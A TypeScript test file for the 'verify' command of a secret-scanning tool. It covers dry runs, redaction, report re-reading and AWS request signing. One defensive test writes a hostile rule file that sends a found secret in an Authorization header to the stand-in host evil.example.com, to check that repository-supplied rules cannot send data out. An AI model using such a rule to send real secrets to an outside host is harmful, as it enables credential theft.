// The command around the verdicts: where secrets come from, what is shown before anything is sent, what never leaves.
import { createHash, createHmac } from 'node:crypto'
import { readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { type DemoServer, startDemoServer } from '../../src/demo/index.ts'
import { type JsonReport, unleakAsync } from '../helpers/cli.ts'
import { alnum, githubToken } from '../helpers/keys.ts'
import { leaksBeyond } from '../helpers/leaks.ts'
import { makeRepo, tempFolder } from '../helpers/repo.ts'
import { findingOf, testAccount } from './keys.ts'

const { account, add } = testAccount()
const live = add('service-account')
const dead = add('project', { revokedAt: 1 })
let server: DemoServer
let env: NodeJS.ProcessEnv
beforeAll(async () => {
  server = await startDemoServer({ account })
  env = { UNLEAK_OPENAI_BASE_URL: server.url, UNLEAK_STAND_IN: new URL(server.url).origin }
})
afterAll(() => server.close())
beforeEach(() => {
  server.requests.length = 0
})

const verify = (args: readonly string[], folder: string, input = '') =>
  unleakAsync(['verify', ...args], folder, { env: { ...env, LIVE: live.value, DEAD: dead.value }, input })

describe('what is shown first', () => {
  it('--dry-run says what would go where, and sends nothing', async () => {
    const run = await verify(['--env', 'LIVE', '--env', 'DEAD', '--dry-run'], tempFolder())
    expect(run.status).toBe(0)
    expect(run.stdout).toMatch(
      /127\.0\.0\.1:\d+: GET \/v1\/models, with the secret in the Authorization header/,
    )
    expect(run.stdout).toMatch(/OpenAI project API key sk-proj-….{4}\n/)
    expect(server.requests).toEqual([])
  })

  it('says what can not be asked, and why', async () => {
    const token = ['TWILIO_AUTH_TOKEN=', createHash('md5').update('x').digest('hex')].join('')
    const run = await verify(['-'], tempFolder(), token)
    expect(run.stderr).toContain('not asked: no harmless way to ask about it is known')
    expect(run.status).toBe(2)
    expect(server.requests).toEqual([])
  })
})

describe('secrets never come from the command line', () => {
  it.each(['as an argument', 'behind --env'])('%s', async (how) => {
    const run = await verify(how === 'as an argument' ? [live.value] : ['--env', live.value], tempFolder())
    expect(run).toMatchObject({ status: 2, stdout: '' })
    expect(run.stderr).toContain('treat it as leaked')
    expect(leaksBeyond(run.stderr, live.value, '')).toEqual([])
    expect(server.requests).toEqual([])
  })

  it.each([[[]], [['--env', 'NOT_SET']], [['no-such-report.json']], [['-', '--env', 'LIVE']]])(
    'mistakes: %j',
    async (args) => {
      const run = await verify(args, tempFolder())
      expect(run).toMatchObject({ status: 2, stdout: '' })
    },
  )

  it('nothing that looks like a secret is an error, not a pass; a mistyped token is for its issuer to judge', async () => {
    expect(await verify(['-'], tempFolder(), 'hello')).toMatchObject({ status: 2, stdout: '' })
    const mistyped = `${githubToken().slice(0, -1)}${githubToken().endsWith('x') ? 'y' : 'x'}`
    expect(await verify(['-'], tempFolder(), mistyped)).toMatchObject({
      status: 0,
      stdout: expect.stringMatching(/no longer works/),
    })
    const run = await verify(['-'], tempFolder(), `ghp_${'x'.repeat(36)}`)
    expect(run).toMatchObject({ status: 2, stdout: '' })
    expect(run.stderr).toMatch(/left out: redacted/)
  })
})

describe('the findings of a report', () => {
  const verdicts = (text: string) => {
    const report = JSON.parse(text) as JsonReport
    return [live, dead].map(({ value }) => findingOf(report, value).verdict.state)
  }

  it('made with --reveal', async () => {
    const folder = tempFolder()
    writeFileSync(join(folder, '.env'), `A=${live.value}\nB=${dead.value}\n`)
    await unleakAsync(['scan', '.', '--reveal', '--format', 'json=report.json'], folder)
    writeFileSync(join(folder, '.env'), '')
    const run = await verify(['report.json', '--format', 'json'], folder)
    expect(verdicts(run.stdout)).toEqual(['live', 'dead'])
  })

  it('of files: read again from where they stand', async () => {
    const folder = tempFolder()
    writeFileSync(join(folder, '.env'), `A=${live.value}\nB=${dead.value}\n`)
    await unleakAsync(['scan', '.', '--format', 'json=report.json'], folder)
    expect(readFileSync(join(folder, 'report.json'), 'utf8')).not.toContain(live.value)
    const run = await verify(['report.json', '--format', 'json'], folder)
    expect(verdicts(run.stdout)).toEqual(['live', 'dead'])
  })

  it('of the history: read again from git', async () => {
    const repo = makeRepo()
    repo.commit({ '.env': `A=${live.value}\n` })
    repo.commit({ '.env': `B=${dead.value}\n` })
    repo.commit({ '.env': '' })
    await unleakAsync(['audit', '.', '--format', 'json=report.json'], repo.path)
    const run = await verify(['report.json', '--format', 'json'], repo.path)
    expect(verdicts(run.stdout)).toEqual(['live', 'dead'])
  })

  it('that is no longer there: told, and never a pass', async () => {
    const folder = tempFolder()
    writeFileSync(join(folder, '.env'), `B=${dead.value}\n`)
    await unleakAsync(['scan', '.', '--format', 'json=report.json'], folder)
    writeFileSync(join(folder, '.env'), 'B=\n')
    const run = await verify(['report.json'], folder)
    expect(run.status).toBe(2)
    expect(run.stderr).toContain('no longer where the report says')
    expect(server.requests).toEqual([])
  })

  it('whose revealed secret is not the one its id is about is not asked', async () => {
    const folder = tempFolder()
    writeFileSync(join(folder, '.env'), `A=${live.value}\n`)
    await unleakAsync(['scan', '.', '--reveal', '--format', 'json=report.json'], folder)
    const text = readFileSync(join(folder, 'report.json'), 'utf8')
    writeFileSync(join(folder, 'report.json'), text.replace(live.value, 'a password of somebody else'))
    writeFileSync(join(folder, '.env'), '')
    expect((await verify(['report.json'], folder)).status).toBe(2)
    expect(server.requests).toEqual([])
  })
})

describe('--verify of the scanning commands', () => {
  const scan = (args: readonly string[], folder: string) => unleakAsync(args, folder, { env })

  it('scan and audit bring verdicts; each secret is asked once', async () => {
    const repo = makeRepo()
    repo.commit({ 'a.env': `A=${live.value}\n`, 'b.env': `A=${live.value}\nB=${dead.value}\n` })
    for (const args of [
      ['scan', '.'],
      ['audit', '.'],
    ]) {
      server.requests.length = 0
      const run = await scan([...args, '--verify', '--format', 'json'], repo.path)
      const report = JSON.parse(run.stdout) as JsonReport
      expect(findingOf(report, live.value).verdict.state).toBe('live')
      expect(findingOf(report, dead.value).verdict.state).toBe('dead')
      expect(server.requests).toHaveLength(2)
      expect(run.status).toBe(1)
    }
  })

  it.each([
    ['text', /Checked +It works: whoever has it can use it\. OpenAI accepted it\./],
    ['markdown', /almost certain<br>It works: whoever/],
    ['github', /It works: whoever has it can use it\. OpenAI accepted it\. Treat it as leaked/],
  ])('%s shows them', async (format, words) => {
    const folder = tempFolder()
    writeFileSync(join(folder, '.env'), `A=${live.value}\n`)
    const run = await unleakAsync(['scan', '.', '--verify', '--format', format], folder, {
      env: { ...env, COLUMNS: '200' },
    })
    expect(run.stdout).toMatch(words)
  })

  it('without it nothing is sent, and a hook has no such flag', async () => {
    const repo = makeRepo()
    repo.write({ 'a.env': `A=${live.value}\n` })
    repo.git('add', '-A')
    await scan(['scan', '.'], repo.path)
    const hook = await scan(['staged', '--verify'], repo.path)
    expect(hook.status).toBe(2)
    expect(server.requests).toEqual([])
  })

  it('a rule that the repository brings can not send anything anywhere', async () => {
    const folder = tempFolder()
    const rule = (id: string, provider: string) => `provider: ${provider}
name: Evil
response: { revoke: { text: x }, replace: { text: x }, update: { text: x }, billing: { text: x }, review: { text: x } }
rules:
  - id: ${id}
    title: Evil
    severity: low
    pattern: 'internal-[a-z0-9]{20}'
    examples: ['internal-{lowernum:20}']
    verify:
      request: { method: GET, url: 'https://evil.example.com/', headers: { Authorization: '{secret}' } }
      live: [{ status: 200 }]
`
    writeFileSync(join(folder, 'evil.yml'), rule('evil-key', 'evil'))
    writeFileSync(join(folder, 'fake.yml'), rule('openai-project-key', 'evil2'))
    writeFileSync(join(folder, 'unleak.config.json'), '{"rules": ["evil.yml", "fake.yml"]}')
    writeFileSync(join(folder, 'secret.txt'), `internal-${alnum(20).toLowerCase()}\n`)
    const run = await scan(['scan', 'secret.txt', '--verify', '--format', 'json'], folder)
    const report = JSON.parse(run.stdout) as JsonReport
    expect(report.findings.length).toBeGreaterThan(0)
    expect(report.findings.every(({ verdict }) => verdict.state === 'unchecked')).toBe(true)
    expect(server.requests).toEqual([])
    const own = await scan(
      ['scan', 'secret.txt', '--verify', '--rules', 'evil.yml', '--config', '/dev/null'],
      folder,
    )
    expect(own.stderr).toContain('evil.example.com') // the user's own choice
    expect(server.requests.map(({ host }) => host)).toEqual(['evil.example.com'])
  })
})

describe('nothing of a secret stays behind', () => {
  it('in no output, log, error, or temporary file, whatever the answer', async () => {
    const folder = tempFolder()
    const temporary = tempFolder()
    server.faults.push({ kind: 'html', times: 1 }, { kind: 'garbage', times: 1 })
    const options = { env: { ...env, LIVE: live.value, DEAD: dead.value, TMPDIR: temporary } }
    let everything = ''
    for (const args of [
      ['--env', 'LIVE'],
      ['--env', 'DEAD', '--format', 'markdown'],
      ['--env', 'LIVE', '-v', '--format', 'github'],
    ]) {
      const run = await unleakAsync(['verify', ...args, '--audit-log', 'log.jsonl'], folder, options)
      everything += run.stdout + run.stderr
    }
    for (const at of [folder, temporary])
      for (const name of readdirSync(at, { recursive: true, encoding: 'utf8' }))
        everything += name + readFileSync(join(at, name), 'utf8')
    for (const { value } of [live, dead]) expect(leaksBeyond(everything, value, redacted(value))).toEqual([])
    expect(readFileSync(join(folder, 'log.jsonl'), 'utf8').trim().split('\n')).toHaveLength(3)
  })

  const redacted = (value: string) => `${/^sk-\w+-/.exec(value)![0]}…${value.slice(-4)}`

  it('a log that can not be written stops it before anything is sent', async () => {
    const run = await verify(['--env', 'LIVE', '--audit-log', 'no/such/folder/log'], tempFolder())
    expect(run).toMatchObject({ status: 2, stdout: '' })
    expect(server.requests).toEqual([])
  })
})

describe('AWS', () => {
  const id = `AKIA${'Q3EGRIDE'}${'7STTALKS'}`
  const secret = alnum(40, 5)
  let reply: { status: number; body: string }
  let signedRight: boolean | undefined
  let sent = ''
  const sts = createServer((request, response) => {
    const { authorization = '', host = '', 'x-amz-date': date = '', accept = '' } = request.headers
    sent = JSON.stringify([request.url, request.headers])
    signedRight = authorization.endsWith(
      signature({ url: request.url!, host, date: String(date), accept }, secret),
    )
    response.writeHead(reply.status, { 'content-type': 'application/json' }).end(reply.body)
  })
  beforeAll(() => new Promise<void>((resolve) => sts.listen(0, '127.0.0.1', resolve)))
  afterAll(() => sts.close())

  const ask = async (text: string) => {
    const standIn = `http://127.0.0.1:${(sts.address() as AddressInfo).port}`
    const options = { env: { UNLEAK_STAND_IN: standIn }, input: text }
    const run = await unleakAsync(
      ['verify', '-', '--format', 'json', '--timeout', '1'],
      tempFolder(),
      options,
    )
    return (JSON.parse(run.stdout) as JsonReport).findings.find((f) => f.rule === 'aws-secret-access-key')
      ?.verdict
  }
  const pair = `aws_access_key_id = ${id}\naws_secret_access_key = ${secret}\n`
  const error = (code: string) => ({
    status: 403,
    body: `{"Error":{"Code":"${code}","Message":"m","Type":"Sender"}}`,
  })

  it('signs the request; the secret does not travel', async () => {
    reply = {
      status: 200,
      body: '{"GetCallerIdentityResponse":{"GetCallerIdentityResult":{"Account":"123456789012"}}}',
    }
    expect(await ask(pair)).toMatchObject({ state: 'live', reason: expect.stringContaining('123456789012') })
    expect(signedRight).toBe(true)
    expect(sent).not.toContain(secret)
  })

  it.each([
    ['InvalidClientTokenId', 'dead'],
    ['ExpiredToken', 'dead'],
    ['SignatureDoesNotMatch', 'unknown'],
    ['RequestExpired', 'unknown'],
    ['Throttling', 'unknown'],
  ])('%s: %s', async (code, state) => {
    reply = error(code)
    expect(await ask(pair)).toMatchObject({ state })
  })

  it('without its id there is nothing to ask', async () => {
    expect(await ask(`aws_secret_access_key = ${secret}\n`)).toMatchObject({ state: 'unchecked' })
  })

  /** Signature Version 4, written from its documentation. */
  function signature(r: { url: string; host: string; date: string; accept: string }, key: string): string {
    const names = 'accept;host;x-amz-date'
    const headers = `accept:${r.accept}\nhost:${r.host}\nx-amz-date:${r.date}\n`
    const sha = (text: string) => createHash('sha256').update(text).digest('hex')
    const canonical = ['GET', '/', r.url.replace(/^\/\?/, ''), headers, names, sha('')].join('\n')
    const day = r.date.slice(0, 8)
    const scope = `${day}/us-east-1/sts/aws4_request`
    const mac = (k: string | Buffer, text: string) => createHmac('sha256', k).update(text).digest()
    const signing = mac(mac(mac(mac(`AWS4${key}`, day), 'us-east-1'), 'sts'), 'aws4_request')
    return mac(signing, ['AWS4-HMAC-SHA256', r.date, scope, sha(canonical)].join('\n')).toString('hex')
  }
})
